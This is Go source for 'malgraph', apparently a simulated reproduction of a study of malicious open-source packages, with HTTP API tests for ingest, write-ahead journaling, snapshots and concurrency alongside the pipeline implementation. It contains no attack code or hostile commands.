	// The drained, thrice-restarted pipeline matches an uninterrupted drain.
	ref, err := malgraph.NewStreamingPipeline(context.Background(), malgraph.Config{Scale: 0.02}, 4)
	if err != nil {
		t.Fatal(err)
	}
	for ref.PendingBatches() > 0 {
		if _, _, err := ref.AppendNext(); err != nil {
			t.Fatal(err)
		}
	}
	got, want := p3.Stats(), ref.Stats()
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("restarted drain stats %+v\nwant uninterrupted %+v", got, want)
	}
}

// TestIngestPartialFailureReportsAppliedBatches: when a multi-batch drain
// fails midway (here: the second batch's journal fsync), the batches that
// were already journaled and applied are durable and their feed positions
// consumed — the 500 response is the only place their per-batch stats can
// ever reach the client, so it must carry them (plus the durable sequence)
// instead of a bare error.
func TestIngestPartialFailureReportsAppliedBatches(t *testing.T) {
	if testing.Short() {
		t.Skip("full pipeline build")
	}
	s, ts := newTestServer(t, 4, "")
	fi := faultinject.NewFS(nil)
	j, err := wal.Open(filepath.Join(t.TempDir(), "wal"), fi)
	if err != nil {
		t.Fatal(err)
	}
	defer j.Close()
	s.p.AttachJournal(j)
	s.wal = j

	// The drain journals batch 1 (fsync 1), then batch 2's journal append
	// fails at its fsync: batch 1 is durable and applied, batch 2 rolls
	// back untouched.
	fi.FailSync(2)
	out := postJSON(t, ts.URL+"/api/v1/ingest?all=1", http.StatusInternalServerError)
	if msg, _ := out["error"].(string); !strings.Contains(msg, "injected fault") {
		t.Fatalf("error = %v, want the injected journal failure", out["error"])
	}
	ingested, ok := out["ingested"].([]any)
	if !ok || len(ingested) != 1 {
		t.Fatalf("partial failure reported %v ingested batches, want 1", out["ingested"])
	}
	if out["seq"].(float64) != 1 {
		t.Fatalf("partial failure seq = %v, want 1 (the applied batch)", out["seq"])
	}
	if out["pending"].(float64) != 3 {
		t.Fatalf("pending after partial failure = %v, want 3", out["pending"])
	}

	// The failpoint was one-shot: the drain resumes where it stopped and
	// finishes, burning no feed positions for the rolled-back batch.
	out2 := postJSON(t, ts.URL+"/api/v1/ingest?all=1", http.StatusOK)
	if got := len(out2["ingested"].([]any)); got != 3 {
		t.Fatalf("resumed drain ingested %d batches, want 3", got)
	}
	if out2["seq"].(float64) != 4 {
		t.Fatalf("seq after resumed drain = %v, want 4", out2["seq"])
	}
	if out2["pending"].(float64) != 0 {
		t.Fatalf("pending after resumed drain = %v, want 0", out2["pending"])
	}
}
