package main

// Tests for the external ingest path over real HTTP (ISSUE 3): the push
// client driving a serve instance must land the server on the same Results
// as draining the simulated feed and as a one-shot Build — the full
// scheduler → loader → engine round-trip, batch-partition independent.

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"reflect"
	"strings"
	"sync"
	"testing"

	"malgraph"
	"malgraph/internal/collect"
)

// TestPushExternalMatchesFeedAndOneShot delivers the same world three ways:
// one-shot Build, serve-mode feed drain, and `malgraphctl push` POSTing raw
// observations + reports over httptest — and requires bit-equal Results.
func TestPushExternalMatchesFeedAndOneShot(t *testing.T) {
	if testing.Short() {
		t.Skip("full pipeline build")
	}
	const scale = 0.02
	oneShot, err := malgraph.BuildPipeline(context.Background(), malgraph.Config{Scale: scale})
	if err != nil {
		t.Fatal(err)
	}
	want, err := oneShot.Analyze()
	if err != nil {
		t.Fatal(err)
	}

	// Path 2: simulated feed drained over HTTP.
	feedSrv, feedTS := newTestServer(t, 4, "")
	postJSON(t, feedTS.URL+"/api/v1/ingest?all=1", http.StatusOK)
	feedRes, err := feedSrv.p.Analyze()
	if err != nil {
		t.Fatal(err)
	}
	assertSameResults(t, feedRes, want, "feed drain")

	// Path 3: push client against an un-drained server (feed untouched).
	pushSrv, pushTS := newTestServer(t, 1, "")
	client, err := malgraph.NewStreamingPipeline(context.Background(), malgraph.Config{Scale: scale}, 1)
	if err != nil {
		t.Fatal(err)
	}
	obs := collect.ObservationsFromSources(client.World.Sources)
	_, reportCorpus := client.Source()
	var log bytes.Buffer
	if err := pushAll(pushTS.Client(), pushTS.URL, obs, reportCorpus, 5, 1, &log); err != nil {
		t.Fatalf("push: %v\n%s", err, log.String())
	}
	if !strings.Contains(log.String(), "push complete") {
		t.Fatalf("push log missing completion line:\n%s", log.String())
	}
	pushRes, err := pushSrv.p.Analyze()
	if err != nil {
		t.Fatal(err)
	}
	assertSameResults(t, pushRes, want, "external push")
}

// assertSameResults compares Results field-wise for debuggability.
func assertSameResults(t *testing.T, got, want *malgraph.Results, label string) {
	t.Helper()
	if reflect.DeepEqual(got, want) {
		return
	}
	gv, wv := reflect.ValueOf(*got), reflect.ValueOf(*want)
	tp := gv.Type()
	for i := 0; i < tp.NumField(); i++ {
		if !reflect.DeepEqual(gv.Field(i).Interface(), wv.Field(i).Interface()) {
			t.Errorf("%s: Results.%s differs:\n got %v\nwant %v",
				label, tp.Field(i).Name, gv.Field(i).Interface(), wv.Field(i).Interface())
		}
	}
	if !t.Failed() {
		t.Errorf("%s: Results differ in unexported state", label)
	}
}

// TestObservationsEndpointValidation covers the handler's error statuses.
func TestObservationsEndpointValidation(t *testing.T) {
	_, ts := newTestServer(t, 1, "")
	post := func(body string) int {
		t.Helper()
		resp, err := http.Post(ts.URL+"/api/v1/observations", "application/json", strings.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		_, _ = io.Copy(io.Discard, resp.Body)
		return resp.StatusCode
	}
	if got := post("{not json"); got != http.StatusBadRequest {
		t.Fatalf("malformed JSON: status %d", got)
	}
	if got := post(`{"observations":[{"source":99,"coord":{"ecosystem":1,"name":"x","version":"1"}}]}`); got != http.StatusBadRequest {
		t.Fatalf("unknown source: status %d", got)
	}
	if got := post(`{"observations":[]}`); got != http.StatusOK {
		t.Fatalf("empty batch: status %d", got)
	}
	// GET not allowed.
	resp, err := http.Get(ts.URL + "/api/v1/observations")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusMethodNotAllowed {
		t.Fatalf("GET observations: status %d", resp.StatusCode)
	}
}

// TestReportsEndpoint exercises body parsing: a report document without a
// pre-parsed package list is extracted from its body, and package-less
// documents are skipped.
func TestReportsEndpoint(t *testing.T) {
	s, ts := newTestServer(t, 1, "")
	postJSON(t, ts.URL+"/api/v1/ingest?all=1", http.StatusOK)
	before := len(s.p.Reports)

	nodeID := firstCanonicalNode(t)
	// nodeID is "PyPI/name@version"; rebuild the body mention.
	eco := nodeID[:strings.Index(nodeID, "/")]
	rest := nodeID[strings.Index(nodeID, "/")+1:]
	name, version := rest[:strings.Index(rest, "@")], rest[strings.Index(rest, "@")+1:]
	body := fmt.Sprintf("We discovered the package `%s` version `%s` in the %s registry.\n", name, version, eco)

	payload, _ := json.Marshal(map[string]any{"reports": []map[string]any{
		{"URL": "https://blog.example/ext-report-1", "Body": body},
		{"URL": "https://blog.example/ext-report-2", "Body": "nothing to see here"},
	}})
	resp, err := http.Post(ts.URL+"/api/v1/reports", "application/json", bytes.NewReader(payload))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("POST reports: status %d", resp.StatusCode)
	}
	var out struct {
		Accepted int `json:"accepted"`
		Skipped  int `json:"skipped"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&out); err != nil {
		t.Fatal(err)
	}
	if out.Accepted != 1 || out.Skipped != 1 {
		t.Fatalf("accepted=%d skipped=%d, want 1/1", out.Accepted, out.Skipped)
	}
	if got := len(s.p.Reports); got != before+1 {
		t.Fatalf("report corpus %d, want %d", got, before+1)
	}
}

// TestSnapshotGetFailureReturnsErrorStatus verifies the buffered snapshot
// path: a mid-stream snapshot failure must yield a clean 500 JSON error,
// never a 200 with a truncated snapshot body.
func TestSnapshotGetFailureReturnsErrorStatus(t *testing.T) {
	s, ts := newTestServer(t, 1, "")
	boom := errors.New("snapshot backend failed")
	s.snapshot = func(w io.Writer) error {
		// Write a partial snapshot before failing — the pre-fix handler
		// would have streamed these bytes under a 200 status.
		_, _ = io.WriteString(w, `{"version":1,"dataset":`)
		return boom
	}
	resp, err := http.Get(ts.URL + "/api/v1/snapshot")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusInternalServerError {
		t.Fatalf("status %d, want 500", resp.StatusCode)
	}
	var out map[string]string
	if err := json.NewDecoder(resp.Body).Decode(&out); err != nil {
		t.Fatalf("error body is not clean JSON: %v", err)
	}
	if !strings.Contains(out["error"], boom.Error()) {
		t.Fatalf("error body = %v", out)
	}

	// Healthy path: the complete snapshot restores cleanly.
	s.snapshot = s.p.SnapshotEngine
	resp2, err := http.Get(ts.URL + "/api/v1/snapshot")
	if err != nil {
		t.Fatal(err)
	}
	defer resp2.Body.Close()
	if resp2.StatusCode != http.StatusOK || resp2.ContentLength <= 0 {
		t.Fatalf("healthy snapshot: status %d, length %d", resp2.StatusCode, resp2.ContentLength)
	}
	p2, err := malgraph.NewStreamingPipeline(context.Background(), malgraph.Config{Scale: 0.02}, 1)
	if err != nil {
		t.Fatal(err)
	}
	if err := p2.RestoreEngine(resp2.Body); err != nil {
		t.Fatalf("restore from GET snapshot: %v", err)
	}
}

// TestConcurrentObservationsIngestAndQueries hammers the API from many
// goroutines — external observation batches, feed drains, report posts and
// reads — and checks the server converges on the one-shot corpus shape.
// Run under -race this validates the locking of the whole ingest surface.
func TestConcurrentObservationsIngestAndQueries(t *testing.T) {
	if testing.Short() {
		t.Skip("full pipeline build")
	}
	s, ts := newTestServer(t, 4, "")
	client, err := malgraph.NewStreamingPipeline(context.Background(), malgraph.Config{Scale: 0.02}, 1)
	if err != nil {
		t.Fatal(err)
	}
	obs := collect.ObservationsFromSources(client.World.Sources)
	_, reportCorpus := client.Source()
	hc := ts.Client()

	var wg sync.WaitGroup
	fail := make(chan error, 64)
	// Observation pushers: overlapping slices, so the same coordinates race.
	for g := 0; g < 3; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			k := 4
			for i := 0; i < k; i++ {
				lo, hi := i*len(obs)/k, (i+1)*len(obs)/k
				if err := postJSONBody(hc, ts.URL+"/api/v1/observations",
					map[string]any{"observations": obs[lo:hi]}, nil); err != nil {
					fail <- fmt.Errorf("pusher %d: %w", g, err)
					return
				}
			}
		}(g)
	}
	// Report pusher.
	wg.Add(1)
	go func() {
		defer wg.Done()
		if err := postJSONBody(hc, ts.URL+"/api/v1/reports",
			map[string]any{"reports": reportCorpus}, nil); err != nil {
			fail <- fmt.Errorf("reports: %w", err)
		}
	}()
	// Feed drainer: idempotent loop per the new contract.
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; i < 6; i++ {
			if err := postJSONBody(hc, ts.URL+"/api/v1/ingest?all=1", map[string]any{}, nil); err != nil {
				fail <- fmt.Errorf("drain: %w", err)
				return
			}
		}
	}()
	// Readers.
	for g := 0; g < 2; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 10; i++ {
				if _, err := getStats(hc, ts.URL); err != nil {
					fail <- fmt.Errorf("stats: %w", err)
					return
				}
			}
		}()
	}
	wg.Wait()
	close(fail)
	for err := range fail {
		t.Error(err)
	}

	// The corpus shape must converge on the one-shot world regardless of
	// interleaving (accounting aggregates are exact under the mix too, but
	// graph shape is the cheap invariant to assert here).
	oneShot, err := malgraph.BuildPipeline(context.Background(), malgraph.Config{Scale: 0.02})
	if err != nil {
		t.Fatal(err)
	}
	st := s.p.Stats()
	if st.Entries != len(oneShot.Dataset.Entries) {
		t.Fatalf("entries = %d, want %d", st.Entries, len(oneShot.Dataset.Entries))
	}
	if st.Nodes != oneShot.Graph.G.NodeCount() || st.Edges != oneShot.Graph.G.EdgeCount() {
		t.Fatalf("graph %d/%d nodes/edges, want %d/%d",
			st.Nodes, st.Edges, oneShot.Graph.G.NodeCount(), oneShot.Graph.G.EdgeCount())
	}
	if pending := s.p.PendingBatches(); pending != 0 {
		t.Fatalf("feed not drained: %d pending", pending)
	}
}
