package malgraph

import (
	"context"
	"fmt"
	"io"
	"sync"
	"sync/atomic"

	"malgraph/internal/analysis"
	"malgraph/internal/attacker"
	"malgraph/internal/collect"
	"malgraph/internal/core"
	"malgraph/internal/crawler"
	"malgraph/internal/ecosys"
	"malgraph/internal/graph"
	"malgraph/internal/registry"
	"malgraph/internal/reports"
	"malgraph/internal/wal"
	"malgraph/internal/world"
)

// Config controls a full pipeline run.
type Config struct {
	// Seed makes the whole run reproducible; 0 uses the library default.
	Seed uint64
	// Scale multiplies the paper's corpus-size targets; 1.0 ≈ 24k packages,
	// 0.05 ≈ 1.2k. 0 defaults to 0.05.
	Scale float64
	// Detection enables the §VI-A Table X experiment (training 4 models ×
	// 2 settings × DetectionIterations runs; the most expensive stage).
	Detection bool
	// DetectionIterations overrides the paper's 50 iterations (0 = 50 when
	// Detection is set).
	DetectionIterations int
	// MinBehaviorGroup is the Table XI group-size threshold; 0 scales the
	// paper's 100 by Scale.
	MinBehaviorGroup int
	// MaxPages bounds the §III-D report crawl (0 = 200,000 — effectively
	// unbounded at paper scale). Serve-mode re-crawls set this lower to keep
	// ingest latency bounded.
	MaxPages int
}

func (c Config) withDefaults() Config {
	if c.Seed == 0 {
		c.Seed = 20240404
	}
	if c.Scale <= 0 {
		c.Scale = 0.05
	}
	if c.Detection && c.DetectionIterations <= 0 {
		c.DetectionIterations = 50
	}
	if c.MinBehaviorGroup <= 0 {
		c.MinBehaviorGroup = int(100*c.Scale + 0.5)
		if c.MinBehaviorGroup < 3 {
			c.MinBehaviorGroup = 3
		}
	}
	if c.MaxPages <= 0 {
		c.MaxPages = 200000
	}
	return c
}

// Pipeline holds every intermediate product of a run, for callers that want
// to go deeper than the Results summary. A Pipeline is either *batch* (built
// by BuildPipeline, fully ingested) or *streaming* (built by
// NewStreamingPipeline, fed incrementally through Append/AppendNext); in
// both modes Analyze serves from a cache that only recomputes the analysis
// blocks each batch actually invalidated.
type Pipeline struct {
	Config  Config
	World   *world.World
	Dataset *collect.Result
	Reports []*reports.Report
	Graph   *core.MalGraph
	Crawl   crawler.Result
	Engine  *core.Engine

	mu   sync.Mutex
	feed []core.Batch // pending ingest batches (streaming mode); guarded by mu
	fed  int          // guarded by mu
	// epoch is the published read path: every mutator exits by storing a
	// fresh immutable Epoch here (see epoch.go), and every reader loads it
	// without touching mu. dirty accumulates the analysis blocks invalidated
	// since the last publish; publishLocked folds it into the epoch's
	// incremental-results chain and resets it.
	epoch   atomic.Pointer[Epoch]
	epochID uint64      // guarded by mu
	dirty   dirtyBlocks // guarded by mu
	// source retains the collected dataset and parsed report corpus the feed
	// was cut from (with its recorded per-entry accounting), for callers that
	// re-partition the world — the shuffle property tests and serve mode.
	source        *collect.Result
	sourceReports []*reports.Report
	// view and resolver implement the external ingest path: raw
	// observations POSTed by publishers are resolved against the engine's
	// dataset through view (default: the in-process world fleet) before
	// being appended. Lazily created on first AppendExternal. guarded by mu.
	view     registry.View
	resolver *collect.Resolver // guarded by mu
	// journal, when attached, receives every accepted ingest (external
	// observations/reports and feed batches) as an fsync'd WAL record
	// before the engine applies it; lastSeq is the sequence of the last
	// batch this pipeline's engine reflects. See durable.go. guarded by mu.
	journal *wal.Log
	lastSeq uint64 // guarded by mu
}

// Source returns the full collected dataset and report corpus behind the
// pipeline's feed — the world as collected, independent of how much of it
// has been ingested.
func (p *Pipeline) Source() (*collect.Result, []*reports.Report) {
	return p.source, p.sourceReports
}

// dirtyBlocks tracks which Analyze blocks must recompute after an Append.
type dirtyBlocks struct {
	rq1, rq2, rq3, rq4, behaviors, validation, detection bool
}

func allDirty() dirtyBlocks {
	return dirtyBlocks{rq1: true, rq2: true, rq3: true, rq4: true, behaviors: true, validation: true, detection: true}
}

func (d *dirtyBlocks) merge(st core.IngestStats) {
	if st.UpdatedEntries > 0 {
		// Merged entries can shift timestamps and availability anywhere;
		// recompute everything rather than track field-level provenance.
		*d = allDirty()
		return
	}
	if st.DatasetChanged() {
		d.rq1 = true
		d.validation = true
	}
	if st.SimilarChanged() {
		d.rq2 = true
		d.behaviors = true
		d.detection = true
	}
	if st.DependencyChanged() {
		d.rq3 = true
	}
	if st.CoexistingChanged() {
		d.rq4 = true
		d.behaviors = true
	}
}

// Run executes the complete reproduction pipeline: build the simulated
// world, run the §II-B collection, crawl and parse the report web, build
// MALGRAPH, and compute every table and figure.
func Run(cfg Config) (*Results, error) {
	p, err := BuildPipeline(context.Background(), cfg)
	if err != nil {
		return nil, err
	}
	return p.Analyze()
}

// BuildPipeline runs every stage up to and including MALGRAPH construction
// (the whole corpus ingested as one batch).
func BuildPipeline(ctx context.Context, cfg Config) (*Pipeline, error) {
	p, err := NewStreamingPipeline(ctx, cfg, 1)
	if err != nil {
		return nil, err
	}
	if _, ok, err := p.AppendNext(); err != nil {
		return nil, err
	} else if !ok {
		return nil, fmt.Errorf("malgraph: empty feed")
	}
	return p, nil
}

// NewStreamingPipeline builds the simulated world, runs collection and the
// report crawl, and partitions the corpus into `batches` time-ordered ingest
// batches — but ingests none of them. The caller drives the engine through
// AppendNext (replaying the world's timeline) or Append (arbitrary batches);
// Analyze works at any point and reflects what has been ingested so far.
func NewStreamingPipeline(ctx context.Context, cfg Config, batches int) (*Pipeline, error) {
	cfg = cfg.withDefaults()
	w, err := world.Build(world.Config{Seed: cfg.Seed, Scale: cfg.Scale})
	if err != nil {
		return nil, fmt.Errorf("malgraph: build world: %w", err)
	}
	ds, err := collect.Run(w.Sources, w.Fleet, w.Config.CollectAt)
	if err != nil {
		return nil, fmt.Errorf("malgraph: collect: %w", err)
	}
	cr := crawler.New(w.Web, w.Web, crawler.Config{MaxPages: cfg.MaxPages})
	crawlRes := cr.Crawl(ctx, w.SeedURLs)
	reportCorpus := reports.FromPages(crawlRes.Relevant, w.Config.CollectAt)

	eng := core.NewEngine(core.DefaultConfig())
	p := &Pipeline{
		Config:        cfg,
		World:         w,
		Dataset:       eng.Dataset(),
		Reports:       eng.Reports(),
		Graph:         eng.Graph(),
		Crawl:         crawlRes,
		Engine:        eng,
		feed:          BatchFeed(ds, reportCorpus, batches),
		dirty:         allDirty(),
		source:        ds,
		sourceReports: reportCorpus,
	}
	p.publishLocked() // epoch 1: the empty engine (nothing ingested yet)
	return p, nil
}

// BatchFeed partitions a collected dataset and its report corpus into k
// ingest batches: entries in timeline order (collect.NewFeed), reports in
// contiguous URL-order slices.
func BatchFeed(ds *collect.Result, reportCorpus []*reports.Report, k int) []core.Batch {
	feed := collect.NewFeed(ds, k)
	out := make([]core.Batch, 0, feed.Len())
	n := feed.Len()
	for i := 0; ; i++ {
		cb, ok := feed.Next()
		if !ok {
			break
		}
		lo, hi := i*len(reportCorpus)/n, (i+1)*len(reportCorpus)/n
		out = append(out, core.Batch{
			Entries:   cb.Entries,
			PerSource: cb.PerSource,
			Stats:     cb.Stats,
			Reports:   reportCorpus[lo:hi],
			At:        cb.At,
		})
	}
	return out
}

// Append ingests one batch into the engine and invalidates exactly the
// Results blocks the batch touched. The next Analyze recomputes those blocks
// and serves the rest from cache. The ingest itself is LSH-scoped: only the
// similarity partitions containing the batch's new artifacts re-cluster (see
// core.IngestStats' recluster-scope accounting), so append cost tracks the
// delta, not the corpus.
func (p *Pipeline) Append(b core.Batch) (core.IngestStats, error) {
	p.mu.Lock()
	defer p.mu.Unlock()
	st, err := p.appendLocked(b)
	if err == nil {
		p.publishLocked()
	}
	return st, err
}

func (p *Pipeline) appendLocked(b core.Batch) (core.IngestStats, error) {
	st, err := p.Engine.Ingest(b)
	if err != nil {
		return st, fmt.Errorf("malgraph: append: %w", err)
	}
	p.Dataset = p.Engine.Dataset()
	p.Reports = p.Engine.Reports()
	p.Graph = p.Engine.Graph()
	p.dirty.merge(st)
	return st, nil
}

// SetExternalView routes artifact recovery for externally delivered
// observations through v — typically a registry.RemoteFleet speaking HTTP to
// live registry endpoints — instead of the in-process world fleet. Calling
// it resets the resolver, dropping its per-coordinate recovery cache.
func (p *Pipeline) SetExternalView(v registry.View) {
	p.mu.Lock()
	defer p.mu.Unlock()
	p.view = v
	p.resolver = nil
}

// AppendExternal is the loader inlet: it resolves raw source observations
// against the engine's current dataset — dedupe by coordinate, source-first
// artifact adoption, mirror recovery through the configured registry view,
// release-metadata lookup — and ingests the resulting batch together with
// any externally published reports. Resolution is evaluated at the world's
// collection instant, so the same observations delivered in any batch
// partition yield Results bit-identical to a one-shot Build of the merged
// corpus. The returned sequence is this batch's own durable sequence
// number (read under the same lock the append held, so concurrent pushers
// each get the sequence of their batch, not a later one's). A transport
// failure from a remote registry aborts the append with
// collect.ErrUnresolved and ingests nothing — the caller retries; a
// malformed observation aborts with collect.ErrBadObservation.
func (p *Pipeline) AppendExternal(obs []collect.Observation, reps []*reports.Report) (core.IngestStats, uint64, error) {
	p.mu.Lock()
	defer p.mu.Unlock()
	st, err := p.appendExternalLocked(obs, reps, true)
	if err == nil {
		p.publishLocked()
	}
	return st, p.lastSeq, err
}

// appendExternalLocked resolves and ingests one external delivery. With
// journal set, the raw wire shapes are WAL-journaled after validation
// succeeds and before the engine applies them — an acknowledged append is
// durable; a journal failure aborts with nothing applied, and lastSeq
// commits only once the apply succeeds (a journaled-but-unapplied record
// must stay above the next snapshot's stamp so replay re-applies it).
// Replay passes journal=false: the record is already on disk and
// ReplayJournal advances lastSeq itself.
func (p *Pipeline) appendExternalLocked(obs []collect.Observation, reps []*reports.Report, journal bool) (core.IngestStats, error) {
	if p.resolver == nil {
		view := p.view
		if view == nil {
			view = p.World.Fleet
		}
		p.resolver = collect.NewResolver(view, p.World.Config.CollectAt)
	}
	b, err := p.resolver.Resolve(obs, p.Engine.Dataset())
	if err != nil {
		return core.IngestStats{}, fmt.Errorf("malgraph: resolve observations: %w", err)
	}
	var seq uint64
	if journal {
		if seq, err = p.journalLocked(recExternal, externalRecord{Observations: obs, Reports: reps}); err != nil {
			return core.IngestStats{}, err
		}
	}
	st, err := p.appendLocked(core.Batch{
		Entries:   b.Entries,
		PerSource: b.PerSource,
		Stats:     b.Stats,
		Reports:   reps,
		At:        b.At,
	})
	if err != nil {
		return st, err
	}
	if journal {
		p.lastSeq = seq
	}
	return st, nil
}

// AppendNext ingests the next pending feed batch; ok=false when the feed is
// exhausted.
func (p *Pipeline) AppendNext() (st core.IngestStats, ok bool, err error) {
	p.mu.Lock()
	defer p.mu.Unlock()
	if p.fed >= len(p.feed) {
		return core.IngestStats{}, false, nil
	}
	seq, err := p.journalLocked(recFeed, feedRecord{Index: p.fed})
	if err != nil {
		return core.IngestStats{}, false, err
	}
	b := p.feed[p.fed]
	p.fed++
	if st, err = p.appendLocked(b); err != nil {
		return st, true, err
	}
	p.lastSeq = seq
	p.publishLocked()
	return st, true, nil
}

// AppendPending ingests up to n pending feed batches under one lock
// acquisition (n < 0 drains the feed). With exact set, the request is
// all-or-nothing: when fewer than n batches are pending, nothing is ingested
// and ok=false — the atomicity the serve API's ?n=K contract promises, which
// a check-then-loop caller could not guarantee against concurrent ingesters.
// seq is the durable sequence of the last batch this call applied (read
// under the same lock, so it never names a concurrent pusher's batch); on a
// mid-loop failure stats still carries the batches that were journaled and
// applied before the failure — those are durable and their feed positions
// consumed, so the caller must account for them rather than retry them.
func (p *Pipeline) AppendPending(n int, exact bool) (stats []core.IngestStats, seq uint64, ok bool, err error) {
	p.mu.Lock()
	defer p.mu.Unlock()
	// One publish covers the whole drain: the epoch clone is paid per call,
	// not per batch. A mid-loop failure still publishes what landed — those
	// batches are durable and visible.
	defer func() {
		if len(stats) > 0 {
			p.publishLocked()
		}
	}()
	pending := len(p.feed) - p.fed
	if n < 0 || n > pending {
		if exact && n > pending {
			return nil, p.lastSeq, false, nil
		}
		n = pending
	}
	for i := 0; i < n; i++ {
		recSeq, err := p.journalLocked(recFeed, feedRecord{Index: p.fed})
		if err != nil {
			return stats, p.lastSeq, true, err
		}
		b := p.feed[p.fed]
		p.fed++
		st, err := p.appendLocked(b)
		if err != nil {
			return stats, p.lastSeq, true, err
		}
		p.lastSeq = recSeq
		stats = append(stats, st)
	}
	return stats, p.lastSeq, true, nil
}

// PendingBatches reports how many feed batches AppendNext has not ingested.
func (p *Pipeline) PendingBatches() int {
	p.mu.Lock()
	defer p.mu.Unlock()
	return len(p.feed) - p.fed
}

// PipelineStats is a consistent snapshot of the corpus and graph shape,
// taken under the pipeline lock (safe against a concurrent Append).
type PipelineStats struct {
	Entries        int
	Available      int
	MissingRate    float64
	Reports        int
	Nodes          int
	Edges          int
	EdgesByType    map[string]int
	PendingBatches int
}

// Stats reports the pipeline shape of the current epoch — precomputed at
// publish time, so the call never touches the ingest mutex.
func (p *Pipeline) Stats() PipelineStats {
	return p.CurrentEpoch().Stats()
}

// Node resolves one graph node and its sorted per-type neighbors against
// the current epoch's graph view, lock-free.
func (p *Pipeline) Node(id string) (graph.Node, map[string][]string, bool) {
	return p.CurrentEpoch().Node(id)
}

// SnapshotEngine checkpoints the engine (graph, dataset, caches) to w. The
// snapshot is stamped with the last journaled ingest sequence the engine
// reflects, so WAL recovery replays only the suffix the checkpoint does not
// already contain.
func (p *Pipeline) SnapshotEngine(w io.Writer) error {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.snapshotEngineLocked(w)
}

func (p *Pipeline) snapshotEngineLocked(w io.Writer) error {
	p.Engine.SetAppliedSeq(p.lastSeq)
	p.Engine.SetFeedPos(p.fed)
	return p.Engine.Snapshot(w)
}

// RestoreEngine swaps in an engine checkpoint (core.RestoreEngine) — the
// warm-restart path: embeddings, cluster state and scan caches come back
// with the graph, so serving resumes without an O(corpus) rebuild. The feed
// cursor restores from the snapshot's stamp (pre-v4 snapshots carry none and
// restart it at zero; re-draining already-ingested batches is an idempotent
// no-op), and journal replay advances it further from any feed records past
// the checkpoint.
func (p *Pipeline) RestoreEngine(r io.Reader) error {
	p.mu.Lock()
	defer p.mu.Unlock()
	eng, err := core.RestoreEngine(r)
	if err != nil {
		return fmt.Errorf("malgraph: restore: %w", err)
	}
	p.adoptEngineLocked(eng)
	return nil
}

// adoptEngineLocked swaps the restored engine in and republishes: views,
// sequence stamp, feed cursor, journal floor and a full-dirty epoch. Caller
// holds p.mu.
func (p *Pipeline) adoptEngineLocked(eng *core.Engine) {
	p.Engine = eng
	p.Dataset = eng.Dataset()
	p.Reports = eng.Reports()
	p.Graph = eng.Graph()
	p.lastSeq = eng.AppliedSeq()
	if p.fed = eng.FeedPos(); p.fed > len(p.feed) {
		// The feed was re-partitioned since the snapshot (different
		// -batches); the saved cursor has no meaning in the new partition,
		// so fall back to the idempotent full re-drain.
		p.fed = 0
	}
	if p.journal != nil {
		p.journal.EnsureSeq(p.lastSeq)
	}
	p.dirty = allDirty()
	p.publishLocked()
}

// Analyze computes the Results for the current epoch, lock-free: it loads
// the published epoch and computes (once per epoch, shared by all callers)
// only the analysis blocks the epoch's ingests invalidated — a small delta
// after a large corpus costs the affected RQ blocks, not a full
// re-analysis. A concurrent ingest never blocks Analyze and Analyze never
// blocks an ingest: the computation runs against the epoch's immutable
// view while the loader keeps writing.
func (p *Pipeline) Analyze() (*Results, error) {
	return p.CurrentEpoch().Results()
}

// RunDetection executes the Table X experiment on the current epoch's NPM
// similar clusters.
func (p *Pipeline) RunDetection(iterations int) ([]DetectionRow, error) {
	return detectionOf(p.Config, p.CurrentEpoch().graph, iterations)
}

// NPMClusters returns the current epoch's NPM similar clusters as artifact
// groups — the "tracked malware packages" §VI-A trains on.
func (p *Pipeline) NPMClusters() [][]*ecosys.Artifact {
	return npmClustersOf(p.CurrentEpoch().graph)
}

// GroundTruth exposes the simulated world's campaign ledger (for calibration
// and example programs).
func (p *Pipeline) GroundTruth() []*attacker.Campaign { return p.World.Campaigns }

func subgraphRows(in []analysis.SubgraphStats) []SubgraphRow {
	out := make([]SubgraphRow, 0, len(in))
	for _, s := range in {
		out = append(out, SubgraphRow{
			Ecosystem: s.Eco.String(), PkgNum: s.PkgNum, SubgraphNum: s.SubgraphNum,
			AvgSize: s.AvgSize, LargestSize: s.LargestSize,
		})
	}
	return out
}

func opsRow(d analysis.OpsDist) OpsRow {
	return OpsRow{
		CN: d.CN, CV: d.CV, CD: d.CD, CDep: d.CDep, CC: d.CC,
		Transitions: d.Transitions, AvgChangedLines: d.AvgChangedLines,
	}
}

func activeRow(a analysis.ActiveStats) ActiveRow {
	row := ActiveRow{
		Groups: a.CDF.Len(), MeanDays: a.Summary.Mean, MedianDays: a.Summary.Median,
		Over60Days: a.Over60d,
	}
	if a.CDF.Len() > 0 {
		row.P80Days = a.CDF.Quantile(0.8)
		row.Under15DaysFrac = a.CDF.At(15)
		row.Under10DaysFrac = a.CDF.At(10)
	}
	return row
}
