package malgraph

import (
	"context"
	"fmt"

	"malgraph/internal/analysis"
	"malgraph/internal/attacker"
	"malgraph/internal/behavior"
	"malgraph/internal/codegen"
	"malgraph/internal/collect"
	"malgraph/internal/core"
	"malgraph/internal/crawler"
	"malgraph/internal/detect"
	"malgraph/internal/ecosys"
	"malgraph/internal/graph"
	"malgraph/internal/parallel"
	"malgraph/internal/reports"
	"malgraph/internal/world"
	"malgraph/internal/xrand"
)

// Config controls a full pipeline run.
type Config struct {
	// Seed makes the whole run reproducible; 0 uses the library default.
	Seed uint64
	// Scale multiplies the paper's corpus-size targets; 1.0 ≈ 24k packages,
	// 0.05 ≈ 1.2k. 0 defaults to 0.05.
	Scale float64
	// Detection enables the §VI-A Table X experiment (training 4 models ×
	// 2 settings × DetectionIterations runs; the most expensive stage).
	Detection bool
	// DetectionIterations overrides the paper's 50 iterations (0 = 50 when
	// Detection is set).
	DetectionIterations int
	// MinBehaviorGroup is the Table XI group-size threshold; 0 scales the
	// paper's 100 by Scale.
	MinBehaviorGroup int
}

